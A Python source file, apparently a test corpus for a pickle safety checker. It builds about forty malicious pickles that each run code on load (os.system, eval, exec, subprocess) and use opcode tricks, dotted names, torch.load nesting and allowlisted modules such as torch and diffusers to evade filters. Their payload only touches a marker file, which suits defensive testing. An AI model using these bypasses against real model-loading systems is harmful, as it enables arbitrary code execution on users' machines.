"""Make malicious pickles: each creates a file when it is loaded by pickle."""

import builtins
import functools
import operator
import os
import pickle
import subprocess
import timeit
from collections import OrderedDict
from pathlib import Path

MAGIC, VERSION = 0x1950A86A20F9469CFC6C, 1001  # of torch's old format


class Call:
    """Pickles to the call of a function."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced

    def __call__(self):
        """Return self: pickle requires a callable, also for the result of a call."""


def text(value: object) -> bytes:
    """Return the instruction that pushes a text."""
    data = str(value).encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def binary(data: bytes) -> bytes:
    """Return the instruction that pushes bytes."""
    return b"B" + len(data).to_bytes(4, "little") + data


def named(module: str, name: str) -> bytes:
    """Push module.name by protocol 4, in which a name may have dots."""
    return text(module) + text(name) + b"\x93"


def corpus(marker: Path) -> dict[str, bytes]:
    """Return pickles by their attack; each creates the file `marker`."""
    shell, code = f"touch {marker}", f"open({str(marker)!r}, 'w').close()"
    dump = pickle.dumps
    run = b"cos\nsystem\n" + text(shell) + b"\x85R"  # calls os.system, leaves its result on the stack
    lazy = b"cbuiltins\nmap\ncos\nsystem\n](" + text(shell) + b"e\x86\x81"  # map(os.system, [...])
    ordered = b"ccollections\nOrderedDict\n)R"
    load = b"ctorch.storage\n_load_from_bytes\n"
    head = b"".join(dump(part, 2) for part in (MAGIC, VERSION, {"little_endian": True}))
    return {
        "os.system": dump(Call(os.system, shell)),
        "os.system by protocol 0": dump(Call(os.system, shell), 0),
        "os.system by protocol 2": dump(Call(os.system, shell), 2),
        "os.spawnlp": dump(Call(os.spawnlp, os.P_WAIT, "touch", "touch", str(marker))),
        "os.mkdir": dump(Call(os.mkdir, str(marker))),
        "subprocess.run": dump(Call(subprocess.run, ["touch", str(marker)])),
        "eval": dump(Call(builtins.eval, code)),
        "exec": dump(Call(builtins.exec, code)),
        "open": dump(Call(builtins.open, str(marker), "w")),
        "eval under its name in python 2": f"c__builtin__\neval\n(V{code}\ntR.".encode(),
        "getattr": dump(Call(Call(getattr, marker, "touch"))),
        "a method of a path": dump(Call(Path.touch, marker)),
        "a dotted name": b"\x80\x04" + named("shutil", "os.system") + text(shell) + b"\x85R.",
        "a dotted name of torch": b"\x80\x04" + named("torch", "os.system") + text(shell) + b"\x85R.",
        "a dotted name of an allowed module": b"\x80\x04"
        + named("torch.nn.modules.module", "torch.os.system")
        + text(shell)
        + b"\x85R.",
        "a dunder of an allowed module": b"\x80\x04"
        + named("torch.nn.modules.module", "__builtins__")
        + b"0"
        + run
        + b".",
        "what an allowed module imports": b"\x80\x04"
        + named("diffusers.models.modeling_utils", "os.system")
        + text(shell)
        + b"\x85R.",
        "functools.partial": dump(Call(functools.partial(os.system, shell))),
        "functools.reduce": dump(Call(functools.reduce, eval, [code, {}])),
        "operator.methodcaller": dump(Call(operator.methodcaller("touch"), marker)),
        "operator.attrgetter": dump(Call(Call(operator.attrgetter("touch"), marker))),
        "map": dump(Call(list, Call(map, os.system, [shell]))),
        "timeit": dump(Call(timeit.repeat, code, "pass", timeit.default_timer, 1, 1)),
        "torch.load": b"\x80\x04" + load + binary(dump(Call(os.system, shell))) + b"\x85R.",
        "inside a storage": b"\x80\x04" + load + binary(head + dump(Call(os.system, shell), 2)) + b"\x85R.",
        "inside a storage's header": b"\x80\x04" + load + binary(b"\x80\x02" + run + b"." + head) + b"\x85R.",
        "INST": f"(V{shell}\nios\nsystem\n.".encode(),
        "OBJ": f"(cos\nsystem\nV{shell}\no.".encode(),
        "NEWOBJ": b"\x80\x04cbuiltins\nbytes\n" + lazy + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\ntuple\n" + lazy + b"\x85}\x92.",
        "a key": b"\x80\x04}" + run + b"Ns.",
        "a member of a set": b"\x80\x04\x8f(" + run + b"\x90.",
        "a result that is dropped": b"\x80\x04" + run + b"0}.",
        "a function in the memo": b"\x80\x04cos\nsystem\n\x940h\x00" + text(shell) + b"\x85R.",
        "after an end": b"\x80\x04N0" + run + b".",
        "beside a network": dump({"ema": OrderedDict(), "more": Call(os.system, shell)}),
        "in a table of parameters": dump({"ema": OrderedDict(_parameters={"weight": Call(os.system, shell)})}),
        "in the hooks of a tensor": b"\x80\x04ctorch._utils\n_rebuild_parameter\n(" + run + b"N}tR.",
        "in the state of an object": b"\x80\x04" + ordered + b"}" + text("x") + run + b"sb.",
        "__setstate__": b"\x80\x04" + ordered + b"}" + text("__setstate__") + b"cos\nsystem\nsb" + text(shell) + b"b.",
        "slots": b"\x80\x04" + ordered + b"N}" + text("x") + run + b"s\x86b.",
    }
